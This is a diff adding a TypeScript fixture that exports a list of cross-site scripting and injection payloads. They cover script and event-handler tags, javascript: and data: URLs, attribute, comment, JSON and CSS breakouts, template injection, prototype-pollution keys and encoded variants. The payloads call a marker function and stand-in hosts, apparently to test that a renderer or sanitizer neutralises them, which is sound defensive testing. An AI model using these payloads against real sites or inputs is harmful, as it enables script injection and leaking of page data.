@@ -1,0 +1,97 @@
+/** A host that no config names. */
+const away = "https://planted.example";
+/** A host that a config may name, as it is that of a payload that is an address. */
+const named = "https://named.example";
+
+/**
+ * Texts that would run a script (`ran()`), or ask another host, if a page took them for more than words. Each leaves
+ * another place: HTML, an attribute, a script, JSON, CSS, an address, Markdown, XML.
+ */
+export const payloads: readonly string[] = [
+  // Elements that run
+  "<script>ran()</script>",
+  "</script><script>ran()</script>",
+  "</title></style></textarea></noscript><script>ran()</script>",
+  "<img src=x onerror=ran()>",
+  "<svg onload=ran()></svg>",
+  "<svg><script>ran()</script></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
+  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+  "<details open ontoggle=ran()>x</details>",
+  "<input autofocus onfocus=ran()>",
+  "<a href=javascript:ran()>x</a>",
+  "<form><button formaction=javascript:ran()>x</button></form>",
+  "<object data=javascript:ran()></object><embed src=javascript:ran()>",
+  "<script xmlns='http://www.w3.org/1999/xhtml'>ran()</script>",
+  "<svg onload=alert(1)><script>confirm(1)</script><image href=x onerror=prompt(1)></svg>",
+  "<template shadowrootmode=open><img src=x onerror=ran()></template>",
+  // Out of an attribute
+  '"><img src=x onerror=ran()>',
+  "'><img src=x onerror=ran()>",
+  '" onmouseover="ran()" onfocus="ran()" onclick="ran()" x="',
+  "' onmouseover='ran()' onfocus='ran()' onclick='ran()' x='",
+  "x onerror=ran() onmouseover=ran() onfocus=ran()",
+  // Out of a comment, of CDATA and of JSON
+  "<!--<script>",
+  "--><script>ran()</script><!--",
+  "]]><script>ran()</script><![CDATA[",
+  '"}];ran();//</script><script>ran()</script>',
+  '\\"};ran();//',
+  "\u2028ran()\u2029ran()",
+  "${ran()}`+ran()+`",
+  "{{constructor.constructor('ran()')()}}",
+  "\\{{x}} {{{x}}} <%= ran() %> #{ran()}",
+  "__proto__",
+  "constructor",
+  "$& $` $' $1",
+  // Addresses that run
+  "javascript:ran()",
+  " jAvAsCrIpT:ran()",
+  "java\tscript:ran()",
+  "\u0001javascript:ran()",
+  "javascript://planted.example/%0Aran()",
+  "data:text/html,<script>parent.ran()</script>",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>",
+  "vbscript:ran()",
+  `${named}/"><img/src=x/onerror=ran()>'){}.png`,
+  `${named}/');}*{background:url(${away}/css)}.png`,
+  `${named}/");}*{background:url(${away}/css)}.png`,
+  `${named}/{name}"onerror="ran()"x="{size}.png`,
+  `${named}/?</script><script>ran()</script>#"onload="ran()`,
+  `mailto:a@named.example?subject="onclick="ran()"`,
+  `/x.png"onerror="ran()"x="`,
+  `/x.png');}*{background:url(${away}/css)}`,
+  "/%22%3E%3Cimg%20src=x%20onerror=ran()%3E",
+  "//planted.example/x.png",
+  "\\\\planted.example\\x.png",
+  '#"><img src=x onerror=ran()>',
+  // Out of CSS
+  `");}*{background:url(${away}/css)}`,
+  `');}*{background:url(${away}/css)}`,
+  `</style><style>@import "${away}/import.css";</style>`,
+  `red;background:url(${away}/css)`,
+  `\\22);background:url(${away}/css)/*`,
+  `@import url(${away}/import.css);`,
+  // What asks another host by itself
+  `<link rel=stylesheet href=${away}/link.css>`,
+  `<link rel=prefetch href=${away}/prefetch>`,
+  `<base href=${away}/>`,
+  `<meta http-equiv=refresh content="0;url=${away}/refresh">`,
+  `<img srcset="${away}/set.png 1x" src=x>`,
+  `<video poster=${away}/poster src=${away}/video></video>`,
+  `x" srcset="${away}/set.png 1x" style="background:url(${away}/style)" x="`,
+  `![x](${away}/picture.png)`,
+  "[x](javascript:ran())",
+  `[x](${away}/"onmouseover="ran())`,
+  "<javascript:ran()>",
+  // Written otherwise
+  "&lt;img src=x onerror=ran()&gt;",
+  "&#60;img src=x onerror=ran()&#62;",
+  "%3Cscript%3Eran()%3C/script%3E",
+  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
+  "\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E",
+  "+ADw-script+AD4-ran()+ADw-/script+AD4-",
+  "\u202E<script>ran()</script>\u202C",
+  "<scr\u0000ipt>ran()</scr\u0000ipt>",
+  "\uFEFF<script>ran()</script>",
+];
